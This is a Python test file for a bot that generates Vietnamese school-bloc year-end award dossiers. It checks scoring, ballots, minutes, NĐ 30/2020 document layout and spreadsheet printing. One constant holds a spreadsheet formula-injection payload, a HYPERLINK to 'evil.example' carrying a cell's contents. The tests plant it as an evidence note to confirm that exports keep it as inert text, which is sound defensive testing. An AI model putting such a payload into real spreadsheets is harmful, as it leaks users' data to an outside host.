"""Documents a clerk files unchanged (issue 14): bloc 2's year-end dossier — six units scored and
finalised, a held meeting with five ballots (a unit-level title, 02 Cờ thi đua, 03 Bằng khen, the
election of next year's head and deputy) — opened file by file: the right content at the right
level, the NĐ 30/2020 layout of every DOCX, and workbooks that show their values and print.

When LibreOffice is installed, each document is also turned into PDF and PNG pages under
tests/artifacts/documents/ for a person to look at."""

from __future__ import annotations

import csv
import hashlib
import io
import shutil
import subprocess
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import pytest
from docx import Document
from docx.enum.text import WD_ALIGN_PARAGRAPH
from docx.oxml.ns import qn
from docx.shared import Pt
from openpyxl import load_workbook

from bot.db import Database
from bot.exports import minutes
from bot.exports.awards import FLAG, MERIT
from bot.exports.common import inert
from bot.services import ballots, criteria, exports, meetings, pact, scoring
from bot.services.ballots import Purpose
from bot.services.exports import Kind, Scope
from models.meetings import MeetingKind
from models.vote_rules import Choice
from tests.auxil.dossier import MASTER, _context, files_of, one
from tests.auxil.people import pid
from tests.auxil.scoring import SECRETARIAT, score_all
from tests.auxil.world import HEAD, SCALE, World, make_world, register_unit
from tests.auxil.world_cache import once
from tests.conftest import Clock

pytestmark = pytest.mark.documents

BLOC2 = "Khối thi đua số 2"
# Six units: totals 28, 27, 26, 25, 24, 23 of 30 (distinct, so the ranking is plain).
SCORES = [["10", "9", "5", "4"], ["10", "8", "5", "4"], ["9", "8", "5", "4"], ["9", "8", "4", "4"]]
SCORES += [["9", "7", "4", "4"], ["8", "7", "4", "4"]]
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")'
COMMITTEE = ["Lê Thị Kiểm", "Phạm Văn Phiếu", "Võ Thị Ba"]
COUNCIL = "Bà Trần Thị Hội, chuyên viên Văn phòng Sở"
ARTIFACTS = Path(__file__).resolve().parents[1] / "artifacts" / "documents"


@dataclass
class YearEnd:
    world: World
    scope: Scope
    units: list[str]  # the six scored units, best first
    flags: list[str]
    merits: list[str]
    secretary: str
    head_elected: str

    @property
    def db(self) -> Database:
        return self.world.db


async def _open(w: World, head_tg: int, meeting_id: int, purpose: Purpose, title: str, **kw: object):
    draft = await ballots.create_draft(
        w.db,
        person_id=await pid(w.db, head_tg),
        meeting_id=meeting_id,
        purpose=purpose,
        title=title,
        now=w.clock(),
        **kw,
    )
    opened = await ballots.open_poll(
        w.db, person_id=await pid(w.db, head_tg), poll_id=draft.id, master_key=MASTER, now=w.clock()
    )
    return opened.poll


async def year_end(db: Database, clock: Clock) -> YearEnd:
    w = await make_world(db, clock)
    today, now = w.today, clock()
    head = w.pid(HEAD)
    scale = await criteria.publish(db, head, criteria.check_text(SCALE), today=today, now=now)
    bloc2 = [p for p in w.personas if p.group == BLOC2]
    scored = bloc2[1:7]
    for index, (persona, scores) in enumerate(zip(scored, SCORES, strict=True)):
        person = w.ids[persona.user_id]
        await register_unit(w, person, people=2)
        await pact.sign(db, person, scale_id=scale.scale_id, today=today, now=now)
        if index == 0:  # an evidence note that a spreadsheet would run as a formula
            state = await scoring.open_sheet(db, person, today=today)
            await scoring.add_evidence(
                db, person, sheet_id=state.sheet_id, kind="note", value=EVIL, today=today, now=now
            )
        await score_all(w, person, scores)
    secretary = w.pid(SECRETARIAT)
    for view in await scoring.review_list(db, secretary, today=today):
        await scoring.finalise(db, head, sheet_id=view.sheet_id, today=today, now=now)

    head_tg = bloc2[0].user_id
    reps = [p.user_id for p in bloc2]
    bloc_id = (await meetings.led_blocs(db, await pid(db, head_tg), today))[0][0]
    meeting = await meetings.create_meeting(
        db,
        person_id=await pid(db, head_tg),
        bloc_id=bloc_id,
        kind=MeetingKind.YEAREND,
        starts_at=datetime(2027, 6, 5, 1, 30, tzinfo=UTC),
        place="Trường THPT Bùi Hữu Nghĩa",
        agenda="1. Tổng kết phong trào thi đua năm học\n2. Bình xét, bỏ phiếu đề nghị khen thưởng\n"
        "3. Bầu Khối trưởng, Khối phó năm học tới",
        now=now,
        today=today,
    )
    await meetings.set_minutes_details(
        db,
        person_id=await pid(db, head_tg),
        meeting_id=meeting.id,
        now=now,
        today=today,
        secretary_person_id=secretary,
        counting_committee=COMMITTEE,
        council_representative=COUNCIL,
    )
    opened = await meetings.open_meeting(
        db, person_id=await pid(db, head_tg), meeting_id=meeting.id, now=meeting.starts_at, today=today
    )
    present = reps[:10]
    for rep in present:
        await meetings.check_in(
            db, person_id=await pid(db, rep), code=opened.checkin_code or "", now=now, today=today
        )

    async def run(poll, ballot_of) -> None:  # type: ignore[no-untyped-def]
        for index, rep in enumerate(present):
            await ballots.cast(
                db, poll_ref=poll.ref, person_id=await pid(db, rep), ballot=ballot_of(index, poll), now=now
            )
        await ballots.close_poll(
            db, poll_id=poll.id, master_key=MASTER, now=now, person_id=await pid(db, head_tg)
        )

    # A unit-level title: in the minutes, not in the Tờ trình.
    poll = await _open(w, head_tg, meeting.id, Purpose.TITLE, "Tập thể lao động xuất sắc")
    await run(poll, lambda i, p: {c.position: Choice.AGREE for c in p.on_ballot})
    poll = await _open(w, head_tg, meeting.id, Purpose.SELECTION, "Cờ thi đua UBND thành phố", seats=2)
    by_label = {c.label: c for c in poll.on_ballot}
    names = [c.label for c in poll.on_ballot]
    flags = names[:2]
    await run(poll, lambda i, p: frozenset(by_label[n].position for n in flags))
    rest = [by_label[n].unit_id for n in names[2:]]
    poll = await _open(
        w,
        head_tg,
        meeting.id,
        Purpose.SELECTION,
        "Bằng khen UBND thành phố",
        seats=3,
        candidate_unit_ids=rest,
    )
    merits = [c.label for c in poll.on_ballot][1:4]  # the fourth candidate's (first) gets no vote
    await run(poll, lambda i, p: frozenset(c.position for c in p.on_ballot if c.label in merits))
    for purpose, title in (
        (Purpose.ELECT_HEAD, "Bầu Khối trưởng năm học 2027-2028"),
        (Purpose.ELECT_DEPUTY, "Bầu Khối phó năm học 2027-2028"),
    ):
        poll = await _open(w, head_tg, meeting.id, purpose, title)
        elected = poll.on_ballot[1 if purpose is Purpose.ELECT_HEAD else 2]
        await run(poll, lambda i, p, e=elected: frozenset({e.position}))
        if purpose is Purpose.ELECT_HEAD:
            head_elected = elected.label
    await meetings.close_meeting(
        db,
        person_id=await pid(db, head_tg),
        meeting_id=meeting.id,
        now=datetime(2027, 6, 5, 4, 0, tzinfo=UTC),
        today=today,
    )
    scope = await exports.scope_for(db, await pid(db, head_tg), today)
    book = await exports.score_book(db, scope, _context())
    ranked = [u.unit_name for u in book.units if u.rank is not None]
    return YearEnd(w, scope, ranked, flags, merits, "", head_elected)


@pytest.fixture
async def dossier(db: Database, clock: Clock) -> YearEnd:
    return await once("documents.year_end", db, clock, year_end)


def paragraphs(data: bytes) -> list:  # type: ignore[type-arg]
    return list(Document(io.BytesIO(data)).paragraphs)


def text_of(data: bytes) -> str:
    doc = Document(io.BytesIO(data))
    parts = [p.text for p in doc.paragraphs]
    for table in doc.tables:
        for row in table.rows:
            parts.append(" | ".join(cell.text for cell in row.cells))
    return "\n".join(parts)


# ------------------------------------------------------------------ content
async def test_the_proposal_asks_for_exactly_the_flags_and_certificates_the_ballots_awarded(
    dossier: YearEnd,
) -> None:
    d = dossier
    files = await files_of(d, Kind.PROPOSAL)  # type: ignore[arg-type]
    text = text_of(one(files, "to-trinh_khoi-2_2026-2027.docx"))
    assert f"1. {FLAG.name}: 02 đơn vị" in text
    assert f"2. {MERIT.name}: 03 đơn vị" in text
    for name in d.flags + d.merits:
        assert text.count(f"- {name} (") == 1, name
    others = [u for u in d.units if u not in d.flags + d.merits]
    for name in others:
        assert f"- {name} (" not in text
    # Each unit with its score, rank and vote share.
    rank = d.units.index(d.flags[0]) + 1
    assert f"xếp hạng {rank}/6" in text and "/10 phiếu bầu chọn, đạt " in text
    # No election, no unit-level title, no individual, no short award name.
    for absent in (
        "Khối trưởng năm học",
        "Khối phó",
        "Tập thể lao động xuất sắc",
        "cá nhân",
        "Lao động tiên tiến",
    ):
        assert absent not in text, absent
    assert "UBND" not in text
    assert "Báo cáo tóm tắt thành tích của 05 đơn vị được đề nghị" in text
    # Legal bases, the minutes by number and date, the year unbroken, the real enclosures.
    assert "Căn cứ Luật Thi đua, khen thưởng" in text
    assert "Căn cứ Biên bản số      /BB-KTĐ2 ngày 05 tháng 6 năm 2027" in text
    assert "2026-2027" in text or "2027-2028" in text
    assert "Bảng tổng hợp điểm thi đua" in text and "Danh sách đề nghị khen thưởng" in text
    # The head signs as the bloc's head and as the head of the school; no template note.
    assert "KHỐI TRƯỞNG\nHIỆU TRƯỞNG TRƯỜNG THPT BÙI HỮU NGHĨA" in text
    assert "(Ký" not in text


async def test_the_list_has_one_row_per_proposal_with_the_award(dossier: YearEnd) -> None:
    d = dossier
    files = await files_of(d, Kind.NOMINEES)  # type: ignore[arg-type]
    doc = Document(io.BytesIO(one(files, ".docx")))
    table = doc.tables[1]
    header = [c.text for c in table.rows[0].cells]
    assert header[:3] == ["TT", "Tên đơn vị", "Hình thức đề nghị khen thưởng"]
    rows = [[c.text for c in row.cells] for row in table.rows[2:]]
    assert [r[1] for r in rows] == d.flags + d.merits
    assert [r[2] for r in rows] == [FLAG.name] * 2 + [MERIT.name] * 3
    assert all("/10 phiếu" in r[4] and "xếp hạng" in r[3] for r in rows)
    assert all("Chỉ tiêu" in r[5] for r in rows)
    assert "ngày 07 tháng 6 năm 2027" in text_of(one(files, ".docx")) or "tháng" in doc.paragraphs[3].text
    book = load_workbook(io.BytesIO(one(files, ".xlsx")), data_only=True)
    sheet = book.active
    names = [row[1] for row in sheet.iter_rows(values_only=True) if row[1] in d.units]
    assert names == d.flags + d.merits


async def test_the_minutes_read_as_the_meeting_happened(dossier: YearEnd) -> None:
    files = await files_of(dossier, Kind.MINUTES)  # type: ignore[arg-type]
    text = text_of(one(files, ".docx"))
    assert "Thư ký: " in text and "……" not in text.split("Thư ký: ")[1].split("\n")[0]
    assert (
        f"Đại diện Hội đồng Thi đua – Khen thưởng Sở Giáo dục và Đào tạo thành phố Cần Thơ: {COUNCIL}."
        in text
    )
    assert "Ban kiểm phiếu do cuộc họp thống nhất cử gồm:" in text
    for name in COMMITTEE:
        assert name in text
    assert "Ban kiểm phiếu báo cáo kết quả kiểm phiếu" in text
    # The agenda kept its lines; the ranking reported; the approval; no hash in the body.
    assert "\n2. Bình xét, bỏ phiếu đề nghị khen thưởng\n" in text
    assert "Khối trưởng báo cáo kết quả chấm điểm, xếp hạng thi đua" in text
    for place, name in enumerate(dossier.units, start=1):
        assert f"{place} | {name} | " in text
    assert "IV. THÔNG QUA BIÊN BẢN" in text and "thống nhất thông qua toàn văn biên bản" in text
    body = text.split("PHỤ LỤC")[0]
    assert "mã chuỗi" not in body
    assert "PHỤ LỤC" in text and "Mã tổng hợp của chuỗi phiếu" in text
    assert "Người đại diện" in text
    assert f"Kết quả: đơn vị trúng cử: {dossier.head_elected}." in text


async def test_each_proposed_unit_gets_its_achievement_report_to_complete(dossier: YearEnd) -> None:
    d = dossier
    files = await files_of(d, Kind.PROPOSAL)  # type: ignore[arg-type]
    reports = {k: v for k, v in files.items() if k.startswith("bao-cao-tom-tat")}
    assert len(reports) == 5
    texts = [text_of(v) for v in reports.values()]
    for name, award in [(n, FLAG.name) for n in d.flags] + [(n, MERIT.name) for n in d.merits]:
        [text] = [t for t in texts if f"Tên đơn vị: {name}." in t]
        assert "BÁO CÁO TÓM TẮT THÀNH TÍCH" in text and f"Đề nghị tặng {award} năm học 2026-2027" in text
        assert f"xếp hạng {d.units.index(name) + 1}/6 trong khối" in text
        assert "Chỉ tiêu" in text or "100% giáo viên đạt chuẩn nghề nghiệp" in text
        assert "Tổng cộng" in text and "(Đơn vị bổ sung trước khi ký.)" in text
        assert "HIỆU TRƯỞNG TRƯỜNG THPT" in text


# ------------------------------------------------------------------ the decree's layout
def _size(run) -> float | None:  # type: ignore[no-untyped-def]
    return run.font.size.pt if run.font.size else None


def _has_bottom_rule(paragraph) -> bool:  # type: ignore[no-untyped-def]
    ppr = paragraph._p.pPr
    return ppr is not None and ppr.find(qn("w:pBdr")) is not None


def check_layout(data: bytes) -> None:
    doc = Document(io.BytesIO(data))
    section = doc.sections[0]
    # Page numbers from page 2: a PAGE field in the header, none on the first page.
    assert section.different_first_page_header_footer
    header_xml = section.header._element.xml
    assert "PAGE" in header_xml and 'fldCharType="begin"' in header_xml
    assert section.header.paragraphs[0].alignment == WD_ALIGN_PARAGRAPH.CENTER
    assert "PAGE" not in section.first_page_header._element.xml
    # A short rule under the issuing body.
    heading = doc.tables[0].rows[0].cells[0]
    rules = [p for p in heading.paragraphs if _has_bottom_rule(p)]
    assert len(rules) == 1 and rules[0].paragraph_format.left_indent > 0
    # Body paragraphs: justified (or centred titles), at least 6 pt after, headings kept with the next.
    normal = doc.styles["Normal"].paragraph_format
    assert normal.space_after >= Pt(6)
    body = [p for p in doc.paragraphs if p.text.strip() and p.paragraph_format.first_line_indent]
    assert all(p.alignment == WD_ALIGN_PARAGRAPH.JUSTIFY for p in body)  # the list has none
    for para in doc.paragraphs:
        after = para.paragraph_format.space_after
        if para.text.strip() and after is not None and para.paragraph_format.first_line_indent:
            assert after >= Pt(3), para.text  # list items are 3 pt; paragraphs take the style's 6 pt
    headings = [p for p in doc.paragraphs if p.text[:3] in ("I. ", "II.", "III", "IV.")]
    assert all(p.paragraph_format.keep_with_next for p in headings)
    # Every table row kept whole; every grid's header repeated.
    for table in doc.tables:
        for row in table.rows:
            assert row._tr.trPr.find(qn("w:cantSplit")) is not None
        if table.style is not None and table.style.name == "Table Grid":
            assert table.rows[0]._tr.trPr.find(qn("w:tblHeader")) is not None
    # Every run in Times New Roman; bold capital offices in the signature block, no template note.
    foot = doc.tables[-1] if "PHỤ LỤC" not in text_of(data) else None
    if foot is not None:
        offices = [c.paragraphs[0] for c in foot.rows[0].cells if c.paragraphs[0].text.isupper()]
        assert offices and all(r.bold for p in offices for r in p.runs)
        assert "(Ký" not in "\n".join(c.text for c in foot.rows[0].cells)


async def test_every_docx_follows_the_decree(dossier: YearEnd) -> None:
    files = await files_of(dossier, Kind.ALL)  # type: ignore[arg-type]
    docs = {name: data for name, data in files.items() if name.endswith(".docx")}
    assert len(docs) == 3 + 5  # and a Báo cáo tóm tắt thành tích per proposed unit
    for data in docs.values():
        check_layout(data)
    for name in ("to-trinh", "bien-ban"):
        doc = Document(io.BytesIO(next(v for k, v in docs.items() if k.startswith(name))))
        assert sum(p.alignment == WD_ALIGN_PARAGRAPH.JUSTIFY for p in doc.paragraphs) >= 5
    # "Nơi nhận" as the decree writes it: 12 pt bold italic, the items 11 pt regular, left.
    proposal = Document(io.BytesIO(one(files, "to-trinh_khoi-2_2026-2027.docx")))
    left = proposal.tables[-1].rows[0].cells[0]
    title, *items = left.paragraphs
    assert title.text == "Nơi nhận:" and all(r.bold and r.italic and _size(r) == 12 for r in title.runs)
    assert items and all(p.alignment == WD_ALIGN_PARAGRAPH.LEFT for p in items)
    assert all(not r.bold and not r.italic and _size(r) == 11 for p in items for r in p.runs)
    # A short rule under the subject line; the year never breaks at its hyphen.
    rules = [p for p in proposal.paragraphs if _has_bottom_rule(p)]
    assert len(rules) == 1
    assert "noBreakHyphen" in proposal.element.xml


# ------------------------------------------------------------------ workbooks
def check_print(sheet) -> None:  # type: ignore[no-untyped-def]
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.page_setup.paperSize == 9
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.page_setup.fitToWidth in (None, 1) and sheet.page_setup.fitToHeight == 0  # 1 is the default
    assert sheet.print_title_rows


async def test_every_workbook_shows_its_values_and_prints(dossier: YearEnd) -> None:
    d = dossier
    files = await files_of(d, Kind.ALL)  # type: ignore[arg-type]
    books = {name: data for name, data in files.items() if name.endswith(".xlsx")}
    assert len(books) == 3
    for data in books.values():
        formulas = load_workbook(io.BytesIO(data))
        values = load_workbook(io.BytesIO(data), data_only=True)
        for sheet in formulas.worksheets:
            check_print(sheet)
            cells = {c.coordinate: c for row in sheet.iter_rows() for c in row}
            text = [str(c.value) for c in cells.values() if c.value is not None]
            assert "KHỐI THI ĐUA SỐ 2" in text and "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text
            assert any(t.startswith("Cần Thơ, ngày ") for t in text)
            assert "KHỐI TRƯỞNG" in " ".join(text)
            for coordinate, cell in cells.items():
                if cell.data_type == "f":
                    assert values[sheet.title][coordinate].value is not None, (sheet.title, coordinate)
                if isinstance(cell.value, (int, float)) and not isinstance(cell.value, bool):
                    assert cell.number_format != "0.00"
    # The score summary: totals and ranks cached as the bot computed them; borders on every row.
    data = one(files, ".xlsx") if False else next(v for k, v in books.items() if k.startswith("bang-diem"))
    values = load_workbook(io.BytesIO(data), data_only=True)["Tổng hợp"]
    formulas = load_workbook(io.BytesIO(data))["Tổng hợp"]
    book = await exports.score_book(d.db, d.scope, _context())
    rows = {values.cell(row=r, column=2).value: r for r in range(1, values.max_row + 1)}
    total_col = 3 + len(book.criteria) + 1
    for unit in book.units:
        if unit.rank is None:
            continue
        row = rows[unit.unit_name]
        assert values.cell(row=row, column=total_col).value == float(unit.final_total)
        assert values.cell(row=row, column=total_col + 3).value == unit.rank
        assert formulas.cell(row=row, column=total_col).value.startswith("=SUM(")
        assert formulas.cell(row=row, column=total_col).number_format in ("0", "0.0#")
        for column in range(1, total_col + 4):
            assert formulas.cell(row=row, column=column).border.left.style == "thin"
    # The registration summary stores dates as dates.
    reg = load_workbook(io.BytesIO(next(v for k, v in books.items() if k.startswith("dang-ky")))).active
    dates = [c for row in reg.iter_rows() for c in row if getattr(c, "is_date", False)]
    assert dates and all(c.number_format == "dd/mm/yyyy" for c in dates)


async def test_typed_text_never_becomes_a_formula(dossier: YearEnd) -> None:
    d = dossier
    files = await files_of(d, Kind.SCORES)  # type: ignore[arg-type]
    book = load_workbook(io.BytesIO(one(files, ".xlsx")))
    found = [
        c
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str) and "evil.example" in c.value
    ]
    assert found and all(c.data_type == "s" for c in found)
    # CSV: the same note, and every other typed text, made inert.
    assert inert(EVIL) == "'" + EVIL and inert("- Như trên") == "- Như trên" and inert("-0,5") == "-0,5"
    for name, data in (await files_of(d, Kind.CSV)).items():  # type: ignore[arg-type]
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
            for value in row:
                assert value[:1] not in ("=", "+", "@"), (name, value)


async def test_the_history_of_a_unit_sheet_is_in_words(dossier: YearEnd) -> None:
    files = await files_of(dossier, Kind.SCORES)  # type: ignore[arg-type]
    book = load_workbook(io.BytesIO(one(files, ".xlsx")))
    sheet = book.worksheets[3]
    text = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert "Tự chấm tiêu chí 1.1" in text and "Trạng thái bảng điểm" in text and "Đã chốt" in text
    assert not {"1.1.self", "draft", "submitted", "final"} & set(text)


# ------------------------------------------------------------------ what a clerk sees
# Workbooks need LibreOffice Calc (.ci/run installs it); Writer alone converts the documents.
CALC = Path("/usr/lib/libreoffice/program/libsclo.so").exists()


@pytest.mark.skipif(minutes.soffice() is None or shutil.which("pdftoppm") is None, reason="no LibreOffice")
async def test_each_document_turns_into_pdf_pages_to_look_at(dossier: YearEnd, tmp_path: Path) -> None:
    files = await files_of(dossier, Kind.ALL)  # type: ignore[arg-type]
    texts = pages(files, tmp_path)
    wanted = {n for n in files if n.endswith(".docx") or (CALC and n.endswith(".xlsx"))}
    assert set(texts) == wanted  # every document became pages to look at
    for name, text in texts.items():
        stem = name.rsplit(".", 1)[0] + "-" + name.rsplit(".", 1)[1]
        assert list(ARTIFACTS.glob(f"{stem}-*.png")), name
        assert "2026-\n" not in text, name  # the school year never breaks as "2026-/2027"
    proposal = next(text for name, text in texts.items() if name.startswith("to-trinh"))
    assert "TỜ TRÌNH" in proposal


# Each document's PDF by its bytes, for the session: the same dossier built on SQLite and on
# PostgreSQL gives the same documents, and LibreOffice's output depends on nothing else.
_PDFS: dict[tuple[str, str], bytes] = {}


def pages(files: dict[str, bytes], tmp_path: Path) -> dict[str, str]:
    """Each DOCX (and, with Calc, XLSX) as a PDF and PNG pages in tests/artifacts; its text by name.

    The documents not converted yet go to LibreOffice in one call: it starts once (about 2 s of
    CPU), not once per document."""
    texts: dict[str, str] = {}
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    wanted = {
        name: data
        for name, data in files.items()
        if name.endswith(".docx") or (CALC and name.endswith(".xlsx"))
    }
    keys = {name: (name, hashlib.sha256(data).hexdigest()) for name, data in wanted.items()}
    stems = {name: name.rsplit(".", 1)[0] + "-" + name.rsplit(".", 1)[1] for name in wanted}
    fresh = [name for name in wanted if keys[name] not in _PDFS]
    if fresh:
        # Named by stem and kind: a list's DOCX and XLSX share a stem, and their PDFs would clash.
        sources = {name: tmp_path / f"{stems[name]}.{name.rsplit('.', 1)[1]}" for name in fresh}
        for name, source in sources.items():
            source.write_bytes(wanted[name])
        subprocess.run(
            [
                minutes.soffice() or "soffice",
                f"-env:UserInstallation=file://{tmp_path / 'profile'}",
                "--headless",
                "--convert-to",
                "pdf",
                "--outdir",
                str(tmp_path / "pdf"),
                *(str(source) for source in sources.values()),
            ],
            check=True,
            capture_output=True,
            timeout=180 + 30 * len(fresh),
        )
        for name in fresh:
            pdf = tmp_path / "pdf" / f"{stems[name]}.pdf"
            assert pdf.exists(), name
            _PDFS[keys[name]] = pdf.read_bytes()
    for name in wanted:
        stem = stems[name]
        pdf = ARTIFACTS / f"{stem}.pdf"
        pdf.write_bytes(_PDFS[keys[name]])
        if name in fresh or not list(ARTIFACTS.glob(f"{stem}-*.png")):
            subprocess.run(
                ["pdftoppm", "-png", "-r", "60", str(pdf), str(ARTIFACTS / stem)], check=True, timeout=120
            )
        text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, check=True).stdout
        texts[name] = text.decode()
    return texts
